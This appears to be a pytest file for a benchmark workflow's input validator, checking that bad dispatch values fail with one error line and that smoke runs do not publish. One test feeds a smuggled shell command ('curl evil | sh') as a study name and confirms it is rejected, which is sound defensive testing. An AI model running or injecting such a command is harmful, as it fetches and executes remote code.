"""Dispatch input validation: bad input fails with one line naming the valid values."""
from __future__ import annotations

import json
import subprocess
import sys

import pytest

from conftest import REPO, SCRIPTS

GOOD = ["--studies", "oltp,mcp-db", "--systems", "postgresql, duckdb", "--profile", "full",
        "--instance-type", "c6a.4xlarge", "--publish", "yes", "--region", "us-east-1"]


def run(*args, output=None):
    extra = ["--github-output", str(output)] if output else []
    return subprocess.run([sys.executable, str(SCRIPTS / "validate_inputs.py"), *args, *extra],
                          capture_output=True, text=True, timeout=30)


def test_valid_inputs_are_normalised_into_github_output(tmp_path):
    out = tmp_path / "github_output"
    result = run(*GOOD, output=out)
    assert result.returncode == 0, result.stderr
    lines = dict(line.split("=", 1) for line in out.read_text().splitlines())
    assert lines["studies"] == "oltp,mcp-db"
    assert lines["systems"] == "postgresql,duckdb"
    assert lines["instance_type"] == "c6a.4xlarge"

def test_all_expands_to_the_profiles_studies_and_their_systems(tmp_path):
    out = tmp_path / "github_output"
    result = run("--profile", "ci", "--studies", "all", "--systems", "all", output=out)
    assert result.returncode == 0, result.stderr
    lines = dict(line.split("=", 1) for line in out.read_text().splitlines())
    profile = json.loads((REPO / "pipeline" / "profiles" / "ci.json").read_text())
    assert lines["studies"].split(",") == list(profile["studies"])
    wanted = {s for study in profile["studies"].values() for s in study["systems"]}
    assert set(lines["systems"].split(",")) == wanted


def test_a_study_the_profile_lacks_is_rejected_before_launch(tmp_path):
    profiles = tmp_path / "profiles"
    profiles.mkdir()
    (profiles / "ci.json").write_text(json.dumps({"studies": {"oltp": {"systems": ["postgresql"]}}}))
    result = run("--profile", "ci", "--studies", "oltp,mcp-db", "--profiles-dir", str(profiles))
    assert result.returncode == 2
    assert result.stderr.strip() == "error: profile 'ci' has no study 'mcp-db': it has oltp"


def test_duplicates_are_dropped_in_order():
    result = run("--studies", "oltp,analytical,oltp", "--systems", "sqlite", "--profile", "ci")
    assert "studies=oltp,analytical" in result.stdout


@pytest.mark.parametrize("field,value,named", [
    ("--studies", "oltp,tpcc", "'tpcc'"),
    ("--systems", "postgres", "'postgres'"),
    ("--profile", "huge", "'huge'"),
    ("--instance-type", "m7i.48xlarge", "'m7i.48xlarge'"),
    ("--publish", "maybe", "'maybe'"),
    ("--region", "ap-south-1", "'ap-south-1'"),
])
def test_bad_value_fails_with_one_line_naming_valid_values(field, value, named):
    args = list(GOOD)
    args[args.index(field) + 1] = value
    result = run(*args)
    assert result.returncode == 2
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1
    assert named in lines[0] and "valid values are" in lines[0]


def test_empty_list_is_rejected():
    result = run("--studies", " , ", "--systems", "sqlite", "--profile", "ci")
    assert result.returncode == 2
    assert "studies is empty" in result.stderr


def test_injection_attempt_is_just_an_invalid_value():
    result = run("--studies", 'oltp"; curl evil | sh; echo "', "--systems", "sqlite", "--profile", "ci")
    assert result.returncode == 2
    assert "valid values are analytical, mcp-db, mcp-servers, oltp, payments" in result.stderr


def test_region_alone_can_be_checked():
    assert run("--region", "us-east-1").returncode == 0
    bad = run("--region", "")
    assert bad.returncode == 2 and "valid values are us-east-1" in bad.stderr


def test_nothing_to_check_is_a_usage_error():
    result = run()
    assert result.returncode == 2 and "at least one field" in result.stderr


@pytest.mark.parametrize("profile,publish,resolved", [
    ("smoke", "auto", "no"), ("quick", "auto", "yes"), ("full", "auto", "yes"), ("smoke", "yes", "yes"), ("quick", "no", "no")])
def test_a_smoke_run_does_not_publish_unless_asked(profile, publish, resolved):
    result = run("--profile", profile, "--publish", publish)
    assert result.returncode == 0, result.stderr
    assert f"publish={resolved}" in result.stdout.splitlines()


def test_the_dispatch_default_is_auto_so_smoke_stays_out_of_data_runs():
    import yaml
    inputs = yaml.safe_load((REPO / ".github" / "workflows" / "bench.yml").read_text())[True]["workflow_dispatch"]["inputs"]
    assert inputs["profile"]["default"] == "smoke" and inputs["publish"]["default"] == "auto"
    default = run("--profile", inputs["profile"]["default"], "--publish", inputs["publish"]["default"])
    assert "publish=no" in default.stdout.splitlines()
